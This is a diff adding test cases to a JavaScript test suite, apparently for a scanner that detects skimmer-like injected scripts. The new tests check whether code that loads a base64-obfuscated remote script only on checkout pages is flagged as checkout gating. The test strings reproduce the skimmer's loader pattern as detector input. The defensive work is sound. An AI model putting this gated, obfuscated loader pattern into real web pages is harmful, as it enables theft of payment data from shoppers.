@@ -383,3 +383,31 @@ describe('a document.write whose escapes hide only tag brackets', () => {
       expect(rules(code)).toContain('dynamic-code-from-decoded')
   })
 })
+
+describe('a checkout test the code acts on only when it fails', () => {
+  const load = `var s = document.createElement('script'); s.src = atob('${b64('https://cdn-assets.example/app.js')}'); document.head.appendChild(s)`
+
+  it('is no gate: `!test && act()`, also inside a sequence, and `if (!test) { act() }`', () => {
+    expect(
+      rules(`!/checkout/.test(location.pathname) && (function () { ${load} })()`),
+    ).not.toContain('checkout-url-gating')
+    expect(
+      rules(`init(), !/checkout/.test(location.pathname) && (function () { ${load} })()`),
+    ).not.toContain('checkout-url-gating')
+    expect(rules(`if (!/checkout/.test(location.pathname)) { ${load} }`)).not.toContain(
+      'checkout-url-gating',
+    )
+  })
+
+  it('is a gate when failing it leaves, and when it is met: `if (!test) return`, `test && act()`', () => {
+    expect(
+      rules(`(function () { if (!/checkout/.test(location.pathname)) return; ${load} })()`),
+    ).toContain('checkout-url-gating')
+    expect(rules(`/checkout/.test(location.pathname) && (function () { ${load} })()`)).toContain(
+      'checkout-url-gating',
+    )
+    expect(rules(`!!/checkout/.test(location.pathname) && (function () { ${load} })()`)).toContain(
+      'checkout-url-gating',
+    )
+  })
+})
